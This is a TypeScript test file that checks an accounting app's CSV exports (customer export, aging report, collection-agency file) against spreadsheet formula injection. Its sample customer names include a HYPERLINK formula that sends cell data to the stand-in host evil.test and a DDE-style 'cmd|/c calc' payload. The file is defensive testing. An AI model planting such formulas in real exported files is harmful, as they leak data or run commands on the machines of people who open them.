// Proves that no CSV Settle writes carries a live spreadsheet formula: a customer named
// "=HYPERLINK(…)" comes out neutralised in `settle export`, the aging CSV and the agency file,
// amounts (negative ones included) stay numbers, and importing the exported file reads back
// exactly the names that were written.
import { Writable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCustomers } from '../../src/exports/export-customers.service.js';
import { importCustomers } from '../../src/imports/import-customers.service.js';
import type { Database } from '../../src/platform/db/database.js';
import type { App } from '../../src/platform/http/app.js';
import { issuedInvoice, startApiServer, stopApiServer, type ApiClient } from '../support/api.js';
import { newOrganization } from '../support/organization.js';
import { todayNoEarlierThan } from '../support/clock.js';

// The book below lies on fixed dates up to late 2026, and money is posted about it "today".
todayNoEarlierThan('2026-12-05');

let database: Database;
let app: App;
let client: ApiClient;

const dangerous = [
  '=HYPERLINK("http://evil.test/?"&A1,"Click")',
  '+1+cmd|/c calc',
  '-2+3',
  '@SUM(A1:A9)',
  "'=already quoted",
];

beforeAll(async () => ({ database, app, client } = await startApiServer()));
afterAll(() => stopApiServer({ app, database }));

const cells = (text: string) => parse(text) as string[][];

describe('CSV files and spreadsheet formulas', () => {
  it('neutralises formula cells in every file written, keeps amounts numbers, and reads names back exactly', async () => {
    const ids: string[] = [];
    for (const [index, name] of dangerous.entries()) {
      const created = await client.request('POST', '/customers', {
        ref: `F${index}`,
        name,
        currency: 'EUR',
      });
      expect(created.statusCode, created.body).toBe(201);
      ids.push(created.json().id);
    }
    await issuedInvoice(client, ids[0]!, '100.00', '2026-01-10');
    const credit = await client.request('POST', '/payments', {
      customer_id: ids[1],
      amount: '25.00',
      received_on: '2026-01-12',
      apply: 'none',
    });
    expect(credit.statusCode, credit.body).toBe(201);

    // settle export customers
    const chunks: Buffer[] = [];
    await exportCustomers(database, client.actor, {
      output: new Writable({
        write(chunk, _encoding, done) {
          chunks.push(Buffer.from(chunk));
          done();
        },
      }),
    });
    const exported = Buffer.concat(chunks).toString('utf8');
    const names = cells(exported)
      .slice(1)
      .map((row) => row[1]!);
    expect(names).toEqual(dangerous.map((name) => `'${name}`));

    // The same file imported into another organization gives back the very names.
    const { actor: target } = await newOrganization(database);
    await importCustomers(database, target, { csv: exported });
    const imported = await database.db
      .selectFrom('customers')
      .select(['ref', 'name'])
      .where('org_id', '=', target.orgId)
      .orderBy('ref')
      .execute();
    expect(imported.map((row) => row.name)).toEqual(dangerous);

    // The aging CSV: names neutralised, the unapplied credit a plain negative number.
    const aging = await client.request('GET', '/reports/aging.csv?as_of=2026-06-30');
    expect(aging.statusCode).toBe(200);
    const rows = cells(aging.body);
    const byRef = new Map(rows.slice(1).map((row) => [row[0], row]));
    expect(byRef.get('F0')![1]).toBe(`'${dangerous[0]}`);
    expect(byRef.get('F1')!).toContain('-25.00');
    for (const row of rows)
      for (const cell of row)
        expect(/^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell), cell).toBe(false);

    // The agency file sent outside.
    const invoiceId = (await client.request('GET', `/invoices?customer_id=${ids[0]}`)).json()
      .items[0].id as string;
    const placed = await client.request('POST', '/agency-placements', {
      agency: 'Recover Ltd',
      customer_id: ids[0],
      commission_percent: '20',
      placed_on: '2026-06-01',
      invoice_ids: [invoiceId],
    });
    expect(placed.statusCode, placed.body).toBe(201);
    const file = await client.request('GET', `/agency-placements/${placed.json().id}/file.csv`);
    expect(file.statusCode).toBe(200);
    expect(file.body).toContain(`'${dangerous[0]}`.replace(/"/g, '""'));
    for (const row of cells(file.body))
      for (const cell of row) expect(/^[=+@\t\r]/.test(cell), cell).toBe(false);
  });
});
